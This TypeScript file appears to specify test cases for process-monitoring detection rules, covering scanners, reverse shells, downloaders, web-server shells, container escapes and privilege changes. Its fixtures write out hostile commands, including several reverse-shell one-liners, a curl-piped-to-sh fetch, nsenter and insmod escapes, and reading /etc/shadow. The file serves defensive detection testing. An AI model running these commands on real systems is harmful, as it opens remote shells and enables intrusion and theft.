/**
 * Specifications of the rules in policies/runtimeintegrity/10-process.yaml: programs being started and
 * privilege changes.
 */
import { img } from "./support.js"
import {
  appContainer,
  containerShell,
  hostPhpFpm,
  type RuleSpec,
  rootShell,
  run,
  runningDpkg,
  webContainer,
  webShell
} from "./ruleSpec.js"

export const processRules: ReadonlyArray<RuleSpec> = [
  {
    rule: "Network scanner launched",
    priority: "Medium",
    tags: ["mitre:T1046", "discovery", "process"],
    on: "PE",
    fires: [
      { title: "nmap run from a login shell on the host", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/nmap", "-sS -p- 10.0.0.0/24")) },
      { title: "masscan run from a shell in a container", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/local/bin/masscan", "10.96.0.0/12 -p6379")) }
    ],
    quiet: [
      { title: "ping run from a login shell", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/ping", "-c 1 10.0.0.1")) },
      {
        title: "an nmap process forking (a CLONE still carrying nmap's image is not a program start)",
        build: (s) => void s.fork(s.running(run("/usr/bin/nmap", "-sS 10.0.0.0/24"), s.systemd))
      }
    ]
  },
  {
    rule: "Discovery command in a container session",
    priority: "Low",
    tags: ["mitre:T1082", "mitre:T1016", "mitre:T1033", "mitre:T1057", "discovery", "container", "process"],
    on: "PE",
    fires: [
      { title: "whoami run from an interactive shell opened with kubectl exec", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/whoami")) },
      { title: "id run by a shell that nginx started", build: (s) => void s.spawn(webShell(s, "-c id"), run("/usr/bin/id")) }
    ],
    quiet: [
      {
        title: "uname run by the entry-point script, without a terminal",
        build: (s) => void s.spawn(appContainer(s, img.sh("/docker-entrypoint.sh")).entry, run("/bin/uname", "-m"))
      },
      { title: "whoami run from a login shell on the host", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/whoami")) },
      { title: "a non-discovery command (ls) in an interactive container shell", build: (s) => void s.spawn(containerShell(s).sh, run("/bin/ls", "-la")) }
    ]
  },
  {
    rule: "Reverse shell command",
    priority: "High",
    tags: ["mitre:T1059.004", "mitre:T1095", "execution", "command-and-control", "process"],
    on: "PE",
    fires: [
      { title: "nc given -e /bin/sh in a container", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/nc", "203.0.113.7 4444 -e /bin/sh")) },
      { title: "ncat --sh-exec on the host", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/ncat", "--sh-exec /bin/bash 203.0.113.7 443")) },
      {
        title: "socat connecting an interactive bash to a TCP address",
        build: (s) => void s.spawn(webShell(s, "-c sh"), run("/usr/bin/socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444"))
      },
      { title: "bash redirecting an interactive shell to /dev/tcp", build: (s) => void s.spawn(containerShell(s).sh, img.bash("-c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")) },
      {
        title: "a python one-liner spawning a pty over a socket",
        build: (s) =>
          void s.spawn(
            webShell(s),
            run(
              "/usr/bin/python3",
              `-c import socket,os,pty;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")`
            )
          )
      }
    ],
    quiet: [
      { title: "nc connecting to a port without running a program", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/nc", "10.0.0.5 6379")) },
      { title: "socat forwarding a port to another TCP address", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:backend:80")) },
      {
        title: "a python one-liner that opens a socket but starts no shell",
        build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/python3", `-c import socket;socket.create_connection(("db",5432))`))
      },
      { title: "bash running a script", build: (s) => void s.spawn(s.loginShell(), img.bash("/usr/local/bin/backup.sh --target /dev/sdb1")) }
    ]
  },
  {
    rule: "Netcat-like tool launched in a container",
    priority: "Medium",
    tags: ["mitre:T1095", "command-and-control", "container", "process"],
    on: "PE",
    fires: [
      { title: "nc connecting out from an interactive container shell", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/nc", "203.0.113.7 9001")) },
      { title: "ncat listening in a container", build: (s) => void s.spawn(webShell(s, "-c ncat"), run("/usr/bin/ncat", "-lvp 4444")) }
    ],
    quiet: [
      {
        title: "nc probing a port with -z, as readiness checks do",
        build: (s) => void s.spawn(appContainer(s, img.sh("/wait-for-db.sh")).entry, run("/usr/bin/nc", "-z db 5432"))
      },
      { title: "nc run with -e (reported as a reverse shell instead)", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/nc", "203.0.113.7 4444 -e /bin/sh")) },
      { title: "nc run on the host", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/nc", "203.0.113.7 9001")) }
    ]
  },
  {
    rule: "Decoding tool used in a container",
    priority: "Medium",
    tags: ["mitre:T1140", "defense-evasion", "container", "process"],
    on: "PE",
    fires: [
      { title: "base64 -d in a container", build: (s) => void s.spawn(webShell(s, "-c base64 -d"), run("/usr/bin/base64", "-d")) },
      { title: "base64 --decode of a file in a container", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/base64", "--decode /tmp/p.b64")) },
      {
        title: "openssl enc -d in a container",
        build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/openssl", "enc -aes-256-cbc -d -in /tmp/p.enc -out /tmp/p"))
      },
      { title: "xxd -r -p in a container", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/xxd", "-r -p /tmp/p.hex /tmp/p")) }
    ],
    quiet: [
      {
        title: "base64 encoding a file whose name contains -d",
        build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/base64", "-w0 /srv/app/my-data.json"))
      },
      { title: "base64 -d on the host", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/base64", "-d /tmp/p.b64")) },
      { title: "openssl fetching a certificate in a container", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/openssl", "s_client -connect db:5432")) }
    ]
  },
  {
    rule: "Package management in a container",
    priority: "Medium",
    tags: ["mitre:T1105", "container", "software-management", "process"],
    on: "PE",
    fires: [
      {
        title: "apt-get install run by a container shell (dpkg under it is not reported again)",
        build: (s) => {
          const apt = s.spawn(containerShell(s).sh, run("/usr/bin/apt-get", "install -y netcat-openbsd"))
          s.spawn(apt, run("/usr/bin/dpkg", "--unpack /var/cache/apt/archives/netcat-openbsd_1.219-1_amd64.deb"))
        }
      },
      { title: "apk add in an Alpine container", build: (s) => void s.spawn(webShell(s, "-c apk"), run("/sbin/apk", "add --no-cache socat")) },
      { title: "pip install in a container", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/local/bin/pip", "install requests")) },
      { title: "python -m pip install in a container", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/local/bin/python3.11", "-m pip install paramiko")) }
    ],
    quiet: [
      {
        title: "dpkg started by apt-get",
        build: (s) => {
          const { c, sh } = containerShell(s)
          const apt = s.running(run("/usr/bin/apt-get", "install -y curl"), sh, { containerId: c.id })
          s.spawn(apt, run("/usr/bin/dpkg", "--unpack /var/cache/apt/archives/curl.deb"))
        }
      },
      { title: "npm start as a container's main program", build: (s) => void s.spawn(appContainer(s, img.sh("/docker-entrypoint.sh")).entry, run("/usr/local/bin/npm", "start")) },
      {
        title: "dpkg --print-architecture run by an entry-point script",
        build: (s) => void s.spawn(appContainer(s, img.sh("/docker-entrypoint.sh")).entry, run("/usr/bin/dpkg", "--print-architecture"))
      },
      { title: "apt-get install run on the host", build: (s) => void s.spawn(rootShell(s), run("/usr/bin/apt-get", "install -y curl")) }
    ]
  },
  {
    rule: "Package manager launched by an unexpected parent",
    priority: "Medium",
    tags: ["mitre:T1105", "host", "software-management", "process"],
    on: "PE",
    fires: [
      { title: "apt-get install started by php-fpm on the host", build: (s) => void s.spawn(hostPhpFpm(s), run("/usr/bin/apt-get", "install -y ncat")) },
      {
        title: "yum install started by a Java application server",
        build: (s) => void s.spawn(s.hostService(run("/usr/bin/java", "-jar /opt/app/app.jar", { uid: 996, user: "app" })), run("/usr/bin/yum", "install -y nc"))
      }
    ],
    quiet: [
      {
        title: "apt-get install run by an administrator through sudo",
        build: (s) => {
          const sudo = s.spawn(s.loginShell(), run("/usr/bin/sudo", "apt-get install -y htop"))
          s.spawn(s.setuid(sudo, 0, "root"), run("/usr/bin/apt-get", "install -y htop"))
        }
      },
      {
        title: "dpkg started by unattended-upgrade",
        build: (s) => void s.spawn(s.hostService(run("/usr/bin/unattended-upgrade", "")), run("/usr/bin/dpkg", "--configure -a"))
      },
      { title: "apt-get whose parent the capture never saw", build: (s) => void s.execOrphan(run("/usr/bin/apt-get", "install -y curl")) },
      { title: "rpm -q run by a web server (a query)", build: (s) => void s.spawn(hostPhpFpm(s), run("/usr/bin/rpm", "-qa")) }
    ]
  },
  {
    rule: "Downloader launched by a web server",
    priority: "High",
    tags: ["mitre:T1105", "mitre:T1190", "web", "process"],
    on: "PE",
    fires: [
      {
        title: "curl run by a shell that nginx started (nginx is an ancestor)",
        build: (s) => void s.spawn(webShell(s, "-c curl -fsSL http://198.51.100.23/x.sh | sh"), run("/usr/bin/curl", "-fsSL http://198.51.100.23/x.sh"))
      },
      { title: "wget started directly by php-fpm on the host", build: (s) => void s.spawn(hostPhpFpm(s), run("/usr/bin/wget", "-q -O /tmp/x http://203.0.113.7/x")) }
    ],
    quiet: [
      { title: "curl run from a login shell", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/curl", "-O https://example.org/tool.tar.gz")) },
      { title: "curl run in a container without a web server", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/curl", "http://203.0.113.7/x")) }
    ]
  },
  {
    rule: "Downloader run in a container",
    priority: "Medium",
    tags: ["mitre:T1105", "container", "process"],
    on: "PE",
    fires: [
      { title: "wget run from an interactive container shell", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/wget", "http://203.0.113.7/kworker")) },
      {
        title: "curl run by a cron job in a container",
        build: (s) => {
          const c = appContainer(s, run("/usr/sbin/cron", "-f"))
          s.spawn(s.spawn(c.entry, img.sh("-c /etc/periodic/fetch.sh")), run("/usr/bin/curl", "-s http://203.0.113.7/update"))
        }
      }
    ],
    quiet: [
      {
        title: "curl probing the container's own health endpoint",
        build: (s) => void s.spawn(appContainer(s, img.sh("/healthcheck.sh")).entry, run("/usr/bin/curl", "-fsS http://localhost:8080/healthz"))
      },
      {
        title: "curl being the container's entry point",
        build: (s) => {
          const c = s.container({ name: "fetch-job", image: "curlimages/curl:8.5.0", entry: run("/usr/bin/runc", "init") })
          s.spawn(c.shim, run("/usr/bin/curl", "-fsSL https://example.org/data.json", { entry: true }), c.id)
        }
      },
      {
        title: "curl under nginx (reported as a downloader launched by a web server)",
        build: (s) => void s.spawn(webShell(s, "-c curl"), run("/usr/bin/curl", "http://203.0.113.7/x"))
      },
      { title: "curl run on the host", build: (s) => void s.spawn(s.loginShell(), run("/usr/bin/curl", "http://203.0.113.7/x")) }
    ]
  },
  {
    rule: "Shell spawned by a web server",
    priority: "High",
    tags: ["mitre:T1505.003", "mitre:T1059.004", "web", "process"],
    on: "PE",
    fires: [
      { title: "sh -c started by nginx's worker in a container", build: (s) => void webShell(s, "-c curl -fsSL http://198.51.100.23/x.sh | sh") },
      { title: "bash started by php-fpm on the host", build: (s) => void s.spawn(hostPhpFpm(s), img.bash("-c uname -a")) }
    ],
    quiet: [
      { title: "a CGI program (not a shell) started by nginx", build: (s) => void s.spawn(webContainer(s).worker, run("/usr/bin/python3", "/srv/cgi-bin/report.py")) },
      {
        title: "a shell started by the shell that nginx started",
        build: (s) => {
          const { c, worker } = webContainer(s)
          const first = s.running(img.sh("-c ./run.sh"), worker, { containerId: c.id })
          s.spawn(first, img.sh("./run.sh"))
        }
      },
      { title: "a login shell started by sshd", build: (s) => void s.loginShell() }
    ]
  },
  {
    rule: "Shell spawned by a container entry point",
    priority: "Medium",
    tags: ["mitre:T1059.004", "container", "process"],
    on: "PE",
    fires: [
      { title: "sh -c started by a Node.js entry process", build: (s) => void s.spawn(appContainer(s).entry, img.sh("-c id")) },
      { title: "bash started by a Java entry process", build: (s) => void s.spawn(appContainer(s, run("/opt/java/openjdk/bin/java", "-jar /app.jar")).entry, img.bash("-c whoami")) }
    ],
    quiet: [
      { title: "an entry-point script starting another script", build: (s) => void s.spawn(appContainer(s, img.sh("/docker-entrypoint.sh")).entry, img.bash("/docker-entrypoint.d/10-setup.sh")) },
      { title: "tini starting the entry-point script", build: (s) => void s.spawn(appContainer(s, run("/sbin/tini", "-- /docker-entrypoint.sh")).entry, img.sh("/docker-entrypoint.sh")) },
      {
        title: "a shell started by a Node.js process that is not the entry point",
        build: (s) => {
          const c = appContainer(s, run("/sbin/tini", "-- node server.js"))
          const node = s.running(run("/usr/local/bin/node", "server.js"), c.entry, { containerId: c.id })
          s.spawn(node, img.sh("-c git rev-parse HEAD"))
        }
      },
      { title: "sh started by nginx's entry process (reported as a shell spawned by a web server)", build: (s) => void s.spawn(webContainer(s).c.entry, img.sh("-c id")) }
    ]
  },
  {
    rule: "Interactive shell in a container",
    priority: "Medium",
    tags: ["mitre:T1609", "mitre:T1059.004", "container", "process"],
    on: "PE",
    fires: [
      { title: "kubectl exec -it starting bash", build: (s) => void s.execInto(appContainer(s), { exe: "/bin/bash", tty: true }) },
      { title: "docker exec -it starting sh in an nginx container", build: (s) => void s.execInto(webContainer(s).c, { exe: "/bin/sh", tty: true }) }
    ],
    quiet: [
      {
        title: "a shell started from that interactive shell",
        build: (s) => {
          const c = appContainer(s)
          const first = s.running({ exe: "/bin/sh", tty: true }, c.shim, { containerId: c.id })
          s.spawn(first, img.bash())
        }
      },
      { title: "kubectl exec without a terminal", build: (s) => void s.execInto(appContainer(s), img.sh("-c ls /srv")) },
      { title: "a login shell with a terminal on the host", build: (s) => void s.loginShell() }
    ]
  },
  {
    rule: "Program run from a temporary directory",
    priority: "High",
    tags: ["mitre:T1059", "mitre:TA0002", "execution", "process"],
    on: "PE",
    fires: [
      { title: "a dropped /tmp/.x run by a container shell", build: (s) => void s.spawn(containerShell(s).sh, run("/tmp/.x")) },
      { title: "/dev/shm/kworker run on the host", build: (s) => void s.spawn(s.loginShell(), run("/dev/shm/kworker", "-c /dev/shm/.cfg")) },
      { title: "/var/tmp/miner started by cron", build: (s) => void s.spawn(s.hostService(run("/usr/sbin/cron", "-f")), run("/var/tmp/miner", "--donate-level 1")) }
    ],
    quiet: [
      { title: "a maintainer script in /tmp started by dpkg", build: (s) => void s.spawn(runningDpkg(s), run("/tmp/dpkg-postinst.abc123")) },
      { title: "a program whose path merely contains tmp", build: (s) => void s.spawn(s.loginShell(), run("/usr/sbin/tmpreaper", "7d /tmp")) }
    ]
  },
  {
    rule: "Namespace tool run in a container",
    priority: "High",
    tags: ["mitre:T1611", "privilege-escalation", "container", "process"],
    on: "PE",
    fires: [
      {
        title: "nsenter into PID 1's namespaces from a container",
        build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/nsenter", "--target 1 --mount --uts --ipc --net --pid -- bash"))
      },
      { title: "unshare in a container", build: (s) => void s.spawn(containerShell(s).sh, run("/usr/bin/unshare", "-r -m sh")) }
    ],
    quiet: [
      { title: "nsenter run by an administrator on the host", build: (s) => void s.spawn(rootShell(s), run("/usr/bin/nsenter", "-t 4242 -n ip a")) }
    ]
  },
  {
    rule: "Kernel module tool run in a container",
    priority: "High",
    tags: ["mitre:T1547.006", "mitre:T1611", "persistence", "container", "process"],
    on: "PE",
    fires: [
      { title: "insmod loading a module from a container", build: (s) => void s.spawn(containerShell(s).sh, run("/sbin/insmod", "/tmp/diamorphine.ko")) }
    ],
    quiet: [
      { title: "modprobe run on the host", build: (s) => void s.spawn(s.hostService(run("/lib/systemd/systemd-modules-load")), run("/sbin/modprobe", "br_netfilter")) }
    ]
  },
  {
    rule: "Unexpected privilege change to root",
    priority: "High",
    tags: ["mitre:T1548.001", "mitre:T1068", "privilege-escalation", "process"],
    on: "PE",
    fires: [
      {
        title: "a program started by alice's shell becoming root",
        build: (s) => {
          const p = s.spawn(s.loginShell(), run("/home/alice/.local/bin/pwnkit"))
          s.setuid(p, 0, "root")
        }
      },
      {
        title: "a program started by the nginx worker becoming root in a container",
        build: (s) => void s.setuid(s.spawn(webContainer(s).worker, run("/usr/bin/find", ". -exec /bin/sh -p ;")), 0, "root")
      }
    ],
    quiet: [
      { title: "sudo becoming root for alice", build: (s) => void s.setuid(s.spawn(s.loginShell(), run("/usr/bin/sudo", "-i")), 0, "root") },
      {
        title: "a root daemon's child dropping to a service user",
        build: (s) => void s.setuid(s.spawn(s.hostService(run("/usr/sbin/cron", "-f")), img.sh("-c /usr/local/bin/report")), 33, "www-data")
      },
      { title: "a process whose parent is unknown becoming root", build: (s) => void s.setuid(s.execOrphan(run("/usr/local/bin/agent", "", { uid: 1000, user: "alice" })), 0, "root") },
      { title: "a root shell's child calling setuid(0)", build: (s) => void s.setuid(s.spawn(rootShell(s), run("/usr/local/bin/tool")), 0, "root") }
    ]
  },
  {
    rule: "Root privileges obtained through sudo or su",
    priority: "Low",
    tags: ["mitre:T1548.003", "privilege-escalation", "process"],
    on: "PE",
    fires: [
      { title: "alice running sudo", build: (s) => void s.setuid(s.spawn(s.loginShell(), run("/usr/bin/sudo", "cat /etc/shadow")), 0, "root") },
      { title: "alice running su -", build: (s) => void s.setuid(s.spawn(s.loginShell(), run("/bin/su", "-")), 0, "root") }
    ],
    quiet: [
      {
        title: "root running sudo -u postgres (a switch to a non-root user)",
        build: (s) => void s.setuid(s.spawn(rootShell(s), run("/usr/bin/sudo", "-u postgres psql")), 26, "postgres")
      },
      { title: "root running sudo (already root)", build: (s) => void s.setuid(s.spawn(rootShell(s), run("/usr/bin/sudo", "ls")), 0, "root") }
    ]
  }
]
